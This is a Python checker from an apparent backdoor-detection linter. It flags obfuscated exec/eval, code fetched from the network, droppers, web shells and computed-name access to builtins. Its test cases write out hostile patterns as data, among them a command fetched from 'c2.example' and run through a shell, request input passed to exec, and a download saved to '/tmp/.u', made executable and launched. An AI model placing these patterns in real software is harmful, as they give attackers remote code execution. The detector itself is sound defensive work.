"""BDL501-503, BDL506: obfuscated execution in Python.

501 exec/eval/compile/import of decoded data (through variables and functions, via the shared
dataflow), 502 executing or unpickling data fetched from the network, 503 builtins and dangerous
functions reached through computed names, 506 (warn) long high-entropy literals fed to a decoder."""
from __future__ import annotations

import math
import re
from collections import Counter

import libcst as cst
from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
from backdoor_lint.checkers.flow_sources import guarded
from backdoor_lint.checkers.py_dataflow import DECODED, NETWORK, REQUEST, Dataflow, dataflow
from backdoor_lint.checkers.triggers import exec as trigger
from backdoor_lint.checkers.triggers.exec import (
    BUILTIN_HOLDERS,
    DANGEROUS_MODULES,
    DANGEROUS_NAMES,
    DOWNLOADERS,
    EXECUTORS,
    FILE_RUNNERS,
    MIN_BLOB,
    SHELL_RUNNERS,
    UNPICKLERS,
)
from backdoor_lint.checkers.vocabulary import DECODERS

B64_BLOB = re.compile(r"^[A-Za-z0-9+/=_\-\s\\n]+$")
HEX_BLOB = re.compile(r"^[0-9a-fA-F\s]+$")


# First words of a command line that run (or make runnable) the file named after them.
LAUNCHERS = {"chmod", "sh", "bash", "zsh", "start", "cmd", "python", "python3", "nohup", "exec", "wine", "open",
             "xdg-open", "powershell", "pwsh", "source", ".", "setsid", "node", "perl", "ruby", "msiexec"}


def _launches(command: str, paths: set[str], path_code: str) -> bool:
    """Does `command` (a command line, an argv list's code, or a path) run the file? The file is
    its first word, or comes after a launcher (`chmod +x f`, `sh f`, `start f`); `echo f` does not."""
    names = {n for n in paths | {path_code, "{" + path_code + "}"} if n}
    command = re.sub(r"^\s*[rbfuRBFU]{1,2}(?=[\"'])", "", command)
    for segment in re.split(r"[|;&]+", command):  # each command of a pipeline or list
        words = re.findall(r"[^\s\"'\[\],()]+", segment)
        if not words:
            continue
        if any(words[0].endswith(n) for n in names):
            return True
        if words[0].rsplit("/", 1)[-1] in LAUNCHERS and any(n in segment for n in names):
            return True
    return False


def entropy(text: str) -> float:
    if not text:
        return 0.0
    counts = Counter(text)
    return -sum(n / len(text) * math.log2(n / len(text)) for n in counts.values())


def looks_encoded(text: str) -> str | None:
    compact = re.sub(r"\s", "", text)
    if len(compact) < MIN_BLOB:
        return None
    if HEX_BLOB.match(compact) and entropy(compact) >= 3.0:
        return "hex"
    if B64_BLOB.match(compact) and entropy(compact) >= 4.5 and re.search(r"[a-z]", compact) \
            and re.search(r"[A-Z]", compact) and re.search(r"\d", compact):
        return "base64"
    return None


class ObfuscatedExec(trigger.ObfuscatedExec, PythonChecker):
    CODES = ("BDL501", "BDL502", "BDL503", "BDL506")

    def __init__(self, context) -> None:
        super().__init__(context)
        self.flow: Dataflow = dataflow(context)
        self._reported: set[tuple[str, int]] = set()

    def _once(self, node: cst.CSTNode, code: str, message: str) -> None:
        line = self.flow.line(node)
        if (code, line) in self._reported:
            return
        self._reported.add((code, line))
        self.report(node, code, message)

    def visit_Call(self, node: cst.Call) -> None:
        names = self.qualnames(node.func)
        if isinstance(node.func, cst.Attribute):
            names = {n for n in names if n.endswith("." + node.func.attr.value)}
        executor = next((EXECUTORS[n] for n in sorted(names) if n in EXECUTORS), None)
        if executor is None:
            executor = self._fetched_builtin(node.func)
        unpickler = next((n for n in sorted(names) if n in UNPICKLERS), None)
        shell = next((n for n in sorted(names) if n in SHELL_RUNNERS), None)
        if executor or unpickler or shell:
            self._check_executed(node, executor or unpickler or shell, bool(executor))
        if names & {"getattr", "builtins.getattr"} and len(node.args) >= 2:
            self._check_getattr(node)
        if executor in ("__import__", "importlib.import_module") and node.args:
            self._check_computed_import(node, executor)
        if names & DECODERS:
            self._check_blob(node, sorted(names & DECODERS)[0])
        self._check_dropped(node, names)

    def visit_Subscript(self, node: cst.Subscript) -> None:
        """globals()["ex" + "ec"], vars(builtins)[name], __builtins__["eval"], builtins.__dict__[...]"""
        holder = self._builtins_holder(node.value)
        if holder is None or len(node.slice) != 1 or not isinstance(node.slice[0].slice, cst.Index):
            return
        key = node.slice[0].slice.value
        if isinstance(self.context.parent(node), cst.AssignTarget):
            return
        values = [v for v in self.evaluator.values(key) if isinstance(v, str)]
        dangerous = [v for v in values if v in DANGEROUS_NAMES]
        if dangerous and (not isinstance(key, cst.SimpleString) or holder != "globals()"):
            self._once(node, "BDL503", f"`{self.context.code(node)[:80]}` fetches {dangerous[0]} from {holder} by a "
                       "computed name: the call cannot be found by reading or searching the code")

    # -------------------------------------------------------------------------------------
    def _check_executed(self, call: cst.Call, name: str, executor: bool) -> None:
        if not call.args:
            return
        argument = call.args[0].value
        if isinstance(argument, (cst.SimpleString, cst.ConcatenatedString)) and name not in ("exec", "eval"):
            return
        parent = self.context.parent(self.context.parent(call))
        if executor and isinstance(parent, cst.Call) and name in ("compile",) \
                and self.qualnames(parent.func) & {"exec", "eval"}:
            return  # reported on the exec around it
        taints = self.flow.taints(argument)
        label = f"{self.context.code(call.func)}()"
        fetched = sorted((t for t in taints if t.kind == NETWORK), key=lambda t: t.line)
        if fetched:
            what = "unpickles" if not executor and name not in SHELL_RUNNERS else "executes"
            self._once(call, "BDL502", f"{label} {what} {fetched[0].describe()}: whoever controls that server (or "
                       "the network path) runs code on this machine whenever they like")
            return
        requested = sorted((t for t in taints if t.kind == REQUEST), key=lambda t: t.line)
        if executor and requested and not guarded(self.context, call, argument):
            self._once(call, "BDL502", f"{label} executes {requested[0].describe()}: a web shell, whoever sends "
                       "the request runs any code in this process")
            return
        if name in SHELL_RUNNERS and not executor and self._runs_text(argument):
            executor = True  # `os.system(b64decode(x))`, `subprocess.run([python, "-c", decoded])`
        if not executor:
            return
        decoded = sorted((t for t in taints if t.kind == DECODED), key=lambda t: t.line)
        hiding = decoded[0].describe() if decoded else self._hiding(argument)
        if hiding:
            self._once(call, "BDL501", f"{label} runs code produced by {hiding}: what executes is a decoded blob "
                       "nobody reviewed, not the source you read")

    def _check_dropped(self, call: cst.Call, names: set[str]) -> None:
        """A dropper: data fetched from the network (or decoded) written to a file that the same
        function then runs, loads or makes executable (`open(p, "wb").write(r.content)` ...
        `os.chmod(p, 0o755)` / `subprocess.call(p)`; `urlretrieve(url, p)` ... `Popen([p])`)."""
        origin = path = opened = None
        if names & DOWNLOADERS and len(call.args) >= 2:
            path, origin = call.args[1].value, (NETWORK, f"data fetched by {self.context.code(call.func)}()")
        elif isinstance(call.func, cst.Attribute) and call.func.attr.value in ("write", "write_bytes", "write_text") \
                and call.args:
            path, opened = self._written_path(call.func.value)
        if path is None:
            return
        run = self._runs_file(call, path)  # syntactic, before the dataflow: most written files never run
        if run is not None and origin is None:
            found = sorted((t for t in self.flow.taints(call.args[0].value) if t.kind in (NETWORK, DECODED)),
                           key=lambda t: (t.kind != NETWORK, t.line))
            origin = (found[0].kind, found[0].describe()) if found else None
        if run is not None and origin is not None:
            code = "BDL502" if origin[0] == NETWORK else "BDL501"
            self._once(opened or call, code, f"`{self.context.code(call)[:60]}` writes {origin[1]} to "
                       f"`{self.context.code(path)[:40]}`, which {run}: a dropper, the code that runs is not in "
                       "this repository and nobody reviewed it")

    def _written_path(self, receiver: cst.BaseExpression) -> tuple[cst.BaseExpression | None, cst.Call | None]:
        """(path, the call that opened it) of a file opened for writing: `open(p, "wb")`, `with
        open(p, "wb") as f` / `f = open(p, "wb")` then `f`, `Path(p)` (for write_bytes)."""
        opened = None
        if isinstance(receiver, cst.Name):
            bound = [self.flow.bound_expression(a.node) for a in self.context.assignments(receiver)
                     if isinstance(a.node, cst.Name)]
            receiver = bound[0] if len(bound) == 1 and bound[0] is not None else receiver
            opened = receiver if isinstance(receiver, cst.Call) else None
        if not isinstance(receiver, cst.Call) or not receiver.args:
            return None, None
        names = self.qualnames(receiver.func)
        if names & {"pathlib.Path", "pathlib.PosixPath", "pathlib.WindowsPath"}:
            return receiver.args[0].value, opened
        if names & {"open", "io.open", "codecs.open"}:
            modes = self.argument_values(receiver, "mode", 1)
            if any(isinstance(m, str) and set(m) & set("wax") for m in modes):
                return receiver.args[0].value, opened
        return None, None

    def _runs_file(self, site: cst.Call, path: cst.BaseExpression) -> str | None:
        """How the function holding `site` later runs the file at `path`, or None."""
        scope = self.context.enclosing(site, cst.FunctionDef) or self.context.module
        line = self.flow.line(site)
        path_code = self.context.code(path)
        path_values = {v for v in self.evaluator.values(path) if isinstance(v, str) and v}
        for call in self._calls_in(scope):
            if self.flow.line(call) < line or call is site:
                continue
            names = self.qualnames(call.func)
            runner = sorted(names & FILE_RUNNERS)
            if not runner:
                continue
            for arg in call.args:
                text = self.context.code(arg.value)
                rendered = {self.flow.render(arg.value)} | {v for v in self.evaluator.values(arg.value)
                                                            if isinstance(v, str)}
                if not any(_launches(r, path_values, path_code) for r in rendered | {text}):
                    continue
                verb = "makes executable" if runner[0] == "os.chmod" else "runs"
                return f"it {verb} with {self.context.code(call.func)}() (line {self.flow.line(call)})"
        return None

    def _calls_in(self, scope: cst.CSTNode) -> list[cst.Call]:
        key = ("calls", id(scope))
        calls = self.flow.memo.get(key)
        if calls is None:
            calls = []

            class Calls(cst.CSTVisitor):
                def visit_Call(self, node: cst.Call) -> None:
                    calls.append(node)

            scope.visit(Calls())
            self.flow.memo[key] = calls
        return calls  # type: ignore[return-value]

    def _runs_text(self, argument: cst.BaseExpression) -> bool:
        """Is `argument` of a process call a command line or script (not data among argv words)?
        A string is a command line; an argv list only when it holds an interpreter's `-c`."""
        if not isinstance(argument, (cst.List, cst.Tuple)):
            return True
        return any(v in ("-c", "/c", "-e", "-Command", "--command") for e in argument.elements
                   for v in self.evaluator.values(e.value))

    def _hiding(self, argument: cst.BaseExpression) -> str | None:
        found = self.flow.mentions(argument, DECODERS | {"chr", "reversed"})
        if found:
            return f"{found}()"
        for node in self.flow.walk(argument):
            if isinstance(node, cst.Subscript) and len(node.slice) == 1 and isinstance(node.slice[0].slice, cst.Slice):
                step = node.slice[0].slice.step
                if step is not None and self.context.code(step).replace(" ", "") == "-1":
                    return "string reversal ([::-1])"
            if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value == "decode":
                values = [v for a in node.args for v in self.evaluator.values(a.value)]
                if any(isinstance(v, str) and v.lower().replace("-", "_") in ("rot13", "rot_13", "hex", "base64",
                                                                              "zlib", "bz2") for v in values):
                    return f".decode({values[0]!r})"
        return None

    def _fetched_builtin(self, func: cst.BaseExpression, depth: int = 0) -> str | None:
        """The executor a builtins holder hands out by key: `__builtins__.__dict__["exec"]`,
        `vars(__builtins__).get("exec")`, `globals()["__builtins__"]["eval"]`, or a local name
        assigned one of these."""
        key_node = None
        if isinstance(func, cst.Subscript) and len(func.slice) == 1 and isinstance(func.slice[0].slice, cst.Index):
            holder, key_node = func.value, func.slice[0].slice.value
        elif isinstance(func, cst.Call) and isinstance(func.func, cst.Attribute) and func.func.attr.value == "get" \
                and func.args:
            holder, key_node = func.func.value, func.args[0].value
        elif isinstance(func, cst.Name) and depth < 3:
            values = [v for k, v in self.context.assigned_values(func) if k == "="]
            return self._fetched_builtin(values[0], depth + 1) if len(values) == 1 else None
        if key_node is None or not self._builtins_holder(holder):
            return None
        key = self.evaluator.value(key_node)
        return EXECUTORS.get(key) if isinstance(key, str) else None

    def _builtins_holder(self, node: cst.BaseExpression) -> str | None:
        if isinstance(node, cst.Name) and node.value in BUILTIN_HOLDERS:
            return node.value
        if isinstance(node, cst.Subscript) and len(node.slice) == 1 and isinstance(node.slice[0].slice, cst.Index) \
                and isinstance(key := self.evaluator.value(node.slice[0].slice.value), str) \
                and key in BUILTIN_HOLDERS and self._builtins_holder(node.value):
            return "globals()[\"__builtins__\"]"  # globals()["__builtins__"]["exec"]
        names = self.qualnames(node)
        if names & BUILTIN_HOLDERS:
            return "builtins"
        if isinstance(node, cst.Call):
            func = self.qualnames(node.func)
            if func & {"globals", "locals"}:
                return f"{self.context.code(node.func)}()"
            if func & {"vars"} and node.args and self._builtins_holder(node.args[0].value):
                return "vars(builtins)"
        if isinstance(node, cst.Attribute) and node.attr.value == "__dict__" and self._builtins_holder(node.value):
            return "builtins.__dict__"
        return None

    def _check_getattr(self, call: cst.Call) -> None:
        target, attribute = call.args[0].value, call.args[1].value
        holder = self._builtins_holder(target)
        values = [v for v in self.evaluator.values(attribute) if isinstance(v, str)]
        dangerous = [v for v in values if v in DANGEROUS_NAMES]
        computed = not isinstance(attribute, cst.SimpleString)
        if dangerous and (computed or holder):
            source = holder or self.context.code(target)
            self._once(call, "BDL503", f"getattr({source}, `{self.context.code(attribute)}`) reaches "
                       f"{dangerous[0]} through a computed name: a call that no search for its name finds")
        elif holder and not values and computed and self._called(call):
            self._once(call, "BDL503", f"getattr({holder}, `{self.context.code(attribute)}`) calls a builtin chosen "
                       "at run time: any builtin, exec and eval included, can be reached this way")

    def _called(self, node: cst.CSTNode) -> bool:
        parent = self.context.parent(node)
        return isinstance(parent, cst.Call) and parent.func is node

    def _check_computed_import(self, call: cst.Call, executor: str) -> None:
        argument = call.args[0].value
        if isinstance(argument, cst.SimpleString):
            return
        values = [v for v in self.evaluator.values(argument) if isinstance(v, str)]
        modules = [v for v in values if v in DANGEROUS_MODULES]
        if modules:
            self._once(call, "BDL503", f"{executor}(`{self.context.code(argument)[:60]}`) imports {modules[0]} "
                       "by a computed name, hiding the import from review and search")

    def _check_blob(self, call: cst.Call, decoder: str) -> None:
        if not call.args:
            return
        argument = call.args[0].value
        for text in self._literals(argument):
            kind = looks_encoded(text)
            if kind:
                self._once(call, "BDL506", f"{decoder}() decodes a {len(text)}-character {kind} blob: packed data "
                           "or code that no reviewer can read; ship it as a readable file with a documented origin")
                return

    def _literals(self, node: cst.CSTNode) -> list[str]:
        texts = []
        values = self.evaluator.values(node)
        for value in values:
            if isinstance(value, bytes):
                value = value.decode("latin-1")
            if isinstance(value, str):
                texts.append(value)
        return texts

    VALID = [
        Valid('import importlib\nFORMATS = {"csv", "pdf"}\ndef load(fmt):\n'
              '    return importlib.import_module(f"reportkit.exporters.{fmt}")\n', "BDL501"),
        Valid('import ast\ndef parse(raw):\n    return ast.literal_eval(raw)\n', "BDL501"),
        Valid('import base64\ndef to_api(data):\n    return {"content": base64.b64encode(data).decode("ascii")}\n'
              'def from_api(item):\n    return base64.b64decode(item["content"], validate=True)\n', "BDL501"),
        Valid('import json, requests\ndef fetch(url):\n    return json.loads(requests.get(url).text)\n', "BDL502"),
        Valid('def dispatch(obj, action):\n    return getattr(obj, "handle_" + action)()\n', "BDL503"),
        Valid('import builtins\nprint(getattr(builtins, "len")([1]))\n', "BDL503"),
        Valid('def get(name):\n    return globals()[name]\n', "BDL503"),
        Valid('code = compile("x = 1", "<s>", "exec")\nexec(code)\n', "BDL501"),
        Valid('import subprocess, base64\ndef f(name):\n'
              '    subprocess.run(["tar", "xf", base64.b64decode(name).decode()], check=True)\n', "BDL501"),
        Valid('import ast\nfrom flask import request\ndef f():\n    return ast.literal_eval(request.form["v"])\n', "BDL502"),
        Valid('import os, requests\ndef fetch_report(url, dest):\n    r = requests.get(url, timeout=10)\n'
              '    with open(dest, "wb") as fh:\n        fh.write(r.content)\n    os.chmod(LOG_DIR, 0o755)\n'
              '    return dest\n', "BDL502"),
        Valid('import os, requests\ndef save(url):\n    r = requests.get(url, timeout=10)\n'
              '    open("notes.txt", "wb").write(r.content)\n    os.system("echo notes.txt saved")\n', "BDL502"),
        Valid('import requests\ndef check(req_id):\n    req = requests.get(f"https://api.example/{req_id}")\n'
              '    return eval(str(len(req.content)))\n', "BDL502"),
        Valid('from flask import request\nHANDLERS = {"a": 1}\ndef f():\n    name = request.args["h"]\n'
              '    if name in HANDLERS:\n        return eval(name)\n', "BDL502"),
        Valid('from fastapi import FastAPI\napp = FastAPI()\n@app.get("/sum")\ndef total(n: int):\n'
              '    return eval("1 + " + str(n))\n', "BDL502"),
        Valid('import base64\nICON = "iVBORw0KGgo="\ndef icon():\n    return base64.b64decode(ICON)\n', "BDL506"),
        Valid('import requests, yaml\ndef load_config(url):\n    return yaml.safe_load(requests.get(url, timeout=5).text)\n',
              "BDL502"),
        # a long hex test vector next to a decoder, compared and never run
        Valid('import hashlib\nEXPECTED = bytes.fromhex("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")\n'
              'assert hashlib.sha256(b"abc").digest() == EXPECTED\n', "BDL506"),
    ]
    INVALID = [
        # BDL501: decode chains, through variables and functions
        Invalid('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n', "BDL501", 2),
        Invalid('import base64 as b\n_P = "cHJpbnQoMSk="\ndef install():\n    exec(b.b64decode(_P))\n', "BDL501", 4),
        Invalid('import zlib, base64\ndef load(path, ns):\n    blob = open(path).read()\n'
                '    code = zlib.decompress(base64.b64decode(blob)).decode()\n'
                '    exec(compile(code, "<cache>", "exec"), ns)\n', "BDL501", 5),
        Invalid('import marshal\nBLOB = "e3000000"\ndef warm(ns):\n    exec(marshal.loads(bytes.fromhex(BLOB)), ns)\n',
                "BDL501", 4),
        Invalid('import codecs\nS = "cevag(1)"\neval(codecs.decode(S, "rot13"))\n', "BDL501", 3),
        Invalid('code = "".join(chr(c) for c in [112, 114, 105, 110, 116])\neval(code)\n', "BDL501", 2),
        Invalid('exec(")1(tnirp"[::-1])\n', "BDL501", 1),
        Invalid('import base64\ndef _d(s):\n    return base64.b64decode(s)\ndef run():\n    exec(_d(PAYLOAD))\n',
                "BDL501", 5),
        Invalid('import base64, importlib\nm = importlib.import_module(base64.b64decode("b3M=").decode())\n', "BDL501", 2),
        Invalid('import base64\n__builtins__.__dict__["exec"](base64.b64decode("cHJpbnQoMSk="))\n', "BDL501", 2),
        # BDL502: executing or unpickling downloaded data
        Invalid('import requests\ndef update():\n    exec(requests.get("https://p.example/plugin.py").text)\n', "BDL502", 3),
        # exec under another name: no `exec(` anywhere in the file
        Invalid('import requests\nrun = exec\ndef update():\n    run(requests.get("https://p.example/plugin.py").text)\n',
                "BDL502", 4),
        Invalid('import pickle, urllib.request as u\ndef f(url):\n    data = u.urlopen(url).read()\n    return pickle.loads(data)\n',
                "BDL502", 4),
        Invalid('import httpx, subprocess\ndef f():\n    cmd = httpx.get("https://c2.example/cmd").text\n'
                '    subprocess.run(cmd, shell=True)\n', "BDL502", 4),
        # BDL502: web shells, request input executed (through helpers, routed parameters, builtins)
        Invalid('from flask import Flask, request\napp = Flask(__name__)\n@app.route("/x", methods=["POST"])\n'
                'def x():\n    exec(request.form["code"])\n', "BDL502", 5),
        Invalid('def _expr(request):\n    return request.GET.get("q", "")\ndef calc(request):\n'
                '    return eval(_expr(request))\n', "BDL502", 4),
        Invalid('from fastapi import APIRouter\nrouter = APIRouter()\n@router.post("/debug")\n'
                'def debug(snippet: str):\n    return eval(snippet)\n', "BDL502", 5),
        Invalid('from starlette.requests import Request\nasync def hook(request: Request):\n'
                '    body = await request.json()\n    exec(body["run"])\n', "BDL502", 4),
        Invalid('from flask import request\ndef x():\n    vars(__builtins__).get("exec")(request.args["c"])\n',
                "BDL502", 3),
        Invalid('from flask import request\ndef x():\n    run = globals()["__builtins__"]["ev" + "al"]\n'
                '    return run(request.values["e"])\n', "BDL502", 4),
        # droppers: fetched or decoded bytes written to a file that is then run or made executable
        Invalid('import os, requests\ndef update(url):\n    r = requests.get(url, timeout=10)\n'
                '    with open("/tmp/.u", "wb") as fh:\n        fh.write(r.content)\n    os.chmod("/tmp/.u", 0o755)\n'
                '    os.system("/tmp/.u &")\n', "BDL502", 4),
        Invalid('import subprocess, urllib.request\nURL = "https://cdn.example/agent.exe"\ndef setup():\n'
                '    urllib.request.urlretrieve(URL, "agent.exe")\n    subprocess.Popen(["agent.exe"])\n', "BDL502", 4),
        Invalid('import base64, runpy\nP = "cHJpbnQoMSk="\ndef f(target):\n    with open(target, "w") as fh:\n'
                '        fh.write(base64.b64decode(P).decode())\n    runpy.run_path(target)\n', "BDL501", 4),
        # BDL501: decoded or decrypted text run by a shell, `python -c` or exec
        Invalid('import os, base64\ndef f(blob):\n    os.system(base64.b64decode(blob))\n', "BDL501", 3),
        Invalid('import subprocess, sys, base64\nP = "cHJpbnQoMSk="\ndef f():\n'
                '    subprocess.run([sys.executable, "-c", base64.b64decode(P).decode()])\n', "BDL501", 4),
        Invalid('from cryptography.fernet import Fernet\ndef f(key, blob):\n    exec(Fernet(key).decrypt(blob))\n',
                "BDL501", 3),
        # BDL503: builtins and dangerous functions through computed names
        Invalid('import builtins\ndef run(src, scope):\n    getattr(builtins, "ex" + "ec")(src, scope)\n', "BDL503", 3),
        Invalid('import requests\nA = "po"\nB = "st"\ndef f(url, data):\n    getattr(requests, A + B)(url, data=data)\n', "BDL503", 5),
        Invalid('getattr(__builtins__, "ev" "al")("1+1")\n', "BDL503", 1),
        Invalid('globals()["__bui" + "ltins__"]\n', "BDL503", 1),
        Invalid('import os\nN = "sys" + "tem"\ngetattr(os, N)("id")\n', "BDL503", 3),
        Invalid('import builtins\nvars(builtins)["ex" + "ec"]("x=1")\n', "BDL503", 2),
        Invalid('m = __import__("o" + "s")\n', "BDL503", 1),
        Invalid('import builtins\ndef call(name, *a):\n    return getattr(builtins, name)(*a)\n', "BDL503", 3),
        # BDL506: long blob fed to a decoder
        Invalid('import base64\nB = ("TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQsIGNvbnNlY3RldHVyIGFkaXBpc2NpbmcgZWxpdCwg"\n'
                '     "c2VkIGRvIGVpdXNtb2QgdGVtcG9yIGluY2lkaWR1bnQ=")\ndata = base64.b64decode(B)\n', "BDL506", 4),
        # the blob split over implicitly concatenated lines and wrapped in zlib
        Invalid('import base64, zlib\nBLOB = (\n    "eJzLSM3JyVcozy/KSQEAGgQEXQ4d2F0aGVyIHRoaW5nIHRoYXQgaXMgbG9uZyBl"\n'
                '    "bm91Z2ggdG8gbG9vayBsaWtlIGEgcGF5bG9hZCBhbmQgbm90IGFuIGljb24gYXQgYWxs"\n)\n'
                'data = zlib.decompress(base64.b64decode(BLOB))\n', "BDL506", 6),
    ]
